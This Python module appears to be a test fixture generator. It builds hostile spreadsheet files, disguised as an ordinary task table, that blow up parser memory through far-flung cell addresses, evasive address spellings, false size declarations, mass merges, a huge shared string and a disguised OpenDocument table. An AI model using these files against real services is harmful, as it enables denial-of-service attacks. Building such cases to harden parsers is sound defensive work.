"""Workbooks whose few cells lie so far apart that a sheet laid out between them fills every memory."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import partial

from hostile.model import Hostile
from hostile.packages import (
    DECLARATION,
    RELATION_NAMESPACE,
    SHEET_NAMESPACE,
    Content,
    relationships,
    types,
    zipped,
)

FARTHEST = "XFD1048576"
_SHEET = "xl/worksheets/sheet1.xml"
_ODS = "application/vnd.oasis.opendocument.spreadsheet"
_OASIS = "urn:oasis:names:tc:opendocument:xmlns"


def workbook(sheet: Content, place: str = _SHEET, shared: Content | None = None) -> bytes:
    """A workbook of one sheet, which lies at ``place`` in the package."""
    overrides = [("/xl/workbook.xml", "spreadsheetml.sheet.main"), (f"/{place}", "spreadsheetml.worksheet")]
    relations = [("s", "worksheet", place.removeprefix("xl/"))]
    parts: dict[str, Content] = {}
    if shared is not None:
        overrides.append(("/xl/sharedStrings.xml", "spreadsheetml.sharedStrings"))
        relations.append(("t", "sharedStrings", "sharedStrings.xml"))
        parts["xl/sharedStrings.xml"] = shared
    book = (
        f"{DECLARATION}<workbook {SHEET_NAMESPACE} {RELATION_NAMESPACE}>"
        '<sheets><sheet name="任务" sheetId="1" r:id="s"/></sheets></workbook>'
    )
    return zipped({
        "[Content_Types].xml": types(*overrides),
        "_rels/.rels": relationships(("b", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": relationships(*relations),
        **parts,
        place: sheet,
    })  # fmt: skip


def sheet(rows: str, before: str = "", after: str = "") -> str:
    """The XML of a sheet."""
    inside = f"{before}<sheetData>{rows}</sheetData>{after}"
    return f"{DECLARATION}<worksheet {SHEET_NAMESPACE}>{inside}</worksheet>"


def _cell(place: str, value: int = 1) -> str:
    return f"<c {place}><v>{value}</v></c>"


def far(place: str, row: str = "") -> str:
    """A sheet with a cell in its first corner and one where ``place`` says."""
    return sheet(f'<row r="1">{_cell("r=" + chr(34) + "A1" + chr(34))}</row><row{row}>{_cell(place)}</row>')


_PLAIN = far(f'r="{FARTHEST}"')

SPELLINGS: dict[str, Callable[[], bytes]] = {
    "as Excel writes it": lambda: workbook(_PLAIN),
    "single quotes": lambda: workbook(far(f"r = '{FARTHEST}'")),
    "blanks": lambda: workbook(far(f'r = "{FARTHEST}"')),
    "line end": lambda: workbook(far(f'r\n=\n"{FARTHEST}"')),
    "small letters": lambda: workbook(far(f'r="{FARTHEST.lower()}"')),
    "leading zeros": lambda: workbook(far('r="XFD0000000001048576"')),
    "a character by its number": lambda: workbook(far('r="&#88;FD&#49;048576"')),
    "UTF-16": lambda: workbook(_PLAIN.replace("UTF-8", "UTF-16").encode("utf-16")),
    "named like strings": lambda: workbook(_PLAIN, "xl/sharedStrings_sheet.xml"),
    "ending .XmL": lambda: workbook(_PLAIN, "xl/worksheets/sheet1.XmL"),
    "no ending": lambda: workbook(_PLAIN, "xl/worksheets/sheet1"),
    "other folder": lambda: workbook(_PLAIN, "xl/other/sheet1.xml"),
    "row only": lambda: workbook(far('t="n"', ' r="1048576"').replace('r="A1"', 'r="XFD1"')),
}


def without_places(columns: int = 16_000, rows: int = 100_000) -> bytes:
    """No cell says where it is: a row of cells, and rows by the thousand."""
    return workbook(
        sheet(f"<row>{'<c/>' * (columns - 1)}{_cell('')}</row>{'<row/>' * (rows - 2)}<row>{_cell('')}</row>")
    )


def lying_dimension() -> bytes:
    """A sheet of one cell that says it has all that there can be."""
    return workbook(sheet(f"<row>{_cell('')}</row>", f'<dimension ref="A1:{FARTHEST}"/>'))


def merged() -> bytes:
    """One cell, merged over everything."""
    over_all = f'<mergeCells count="1"><mergeCell ref="A1:{FARTHEST}"/></mergeCells>'
    return workbook(sheet(f"<row>{_cell('')}</row>", after=over_all))


def many_merged(count: int = 2_000_000) -> bytes:
    """Merged ranges by the million, each over the same cells."""
    before = f"<worksheet {SHEET_NAMESPACE}><sheetData><row>{_cell('')}</row></sheetData><mergeCells>"
    return workbook(_pieces('<mergeCell ref="A1:Z999"/>', count, before, "</mergeCells></worksheet>"))


def huge_string(megabytes: int = 290) -> bytes:
    """One shared string that a small file unpacks to."""
    strings = _pieces("字" * 1000, megabytes * 350, f"<sst {SHEET_NAMESPACE}><si><t>", "</t></si></sst>")
    return workbook(sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared=strings)


def lying_strings() -> bytes:
    """Shared strings that say they are thousands of millions."""
    strings = f'<sst {SHEET_NAMESPACE} count="4294967295" uniqueCount="4294967295"><si><t>a</t></si></sst>'
    return workbook(sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared=strings)


def many_cells(rows: int = 400_000, columns: int = 9) -> bytes:
    """Just fewer cells than are allowed, each filled: 20 KB that become a whole table."""
    before, after = f"<worksheet {SHEET_NAMESPACE}><sheetData>", "</sheetData></worksheet>"
    return workbook(_pieces(f"<row>{_cell('') * columns}</row>", rows, before, after))


def disguised_table() -> bytes:
    """An OpenDocument table in the dress of a workbook; one cell of it is repeated over everything."""
    cell = (
        '<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="16384"/>'
    )
    content = (
        f'{DECLARATION}<office:document-content xmlns:office="{_OASIS}:office:1.0"'
        f' xmlns:table="{_OASIS}:table:1.0">'
        '<office:body><office:spreadsheet><table:table table:name="任务">'
        f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        f'{DECLARATION}<m:manifest xmlns:m="{_OASIS}:manifest:1.0">'
        f'<m:file-entry m:full-path="/" m:media-type="{_ODS}"/></m:manifest>'
    )
    return zipped({
        "mimetype": _ODS,
        "content.xml": content,
        "META-INF/manifest.xml": manifest,
        "[Content_Types].xml": types(),
        "xl/none.xml": "<none/>",
    })  # fmt: skip


def _pieces(unit: str, times: int, before: str, after: str) -> Iterator[bytes]:
    """XML that repeats a unit, a megabyte or so at a time."""
    encoded = unit.encode()
    at_once = max(1, (1 << 20) // len(encoded))
    block = encoded * at_once
    yield DECLARATION.encode() + before.encode()
    for _ in range(times // at_once):
        yield block
    yield encoded * (times % at_once) + after.encode()


WORKBOOKS = (
    *(
        Hostile(f"workbook far apart, {name}", "任务分解表.xlsx", "17 thousand million cells", make)
        for name, make in SPELLINGS.items()
    ),
    Hostile(
        "workbook without places", "任务分解表.xlsx", "1.6 thousand million cells", partial(without_places)
    ),
    Hostile(
        "workbook with a lying dimension", "任务分解表.xlsx", "17 thousand million cells", lying_dimension
    ),
    Hostile("workbook merged over everything", "任务分解表.xlsx", "17 thousand million cells", merged),
    Hostile("workbook of many merged ranges", "任务分解表.xlsx", "2 million ranges", partial(many_merged)),
    Hostile("workbook with a huge string", "任务分解表.xlsx", "290 MB in one cell", partial(huge_string)),
    Hostile("workbook with lying strings", "任务分解表.xlsx", "4 thousand million strings", lying_strings),
    Hostile("workbook of many cells", "任务分解表.xlsx", "3.6 million filled cells", partial(many_cells)),
    Hostile(
        "table in the dress of a workbook", "任务分解表.xlsx", "17 thousand million cells", disguised_table
    ),
)
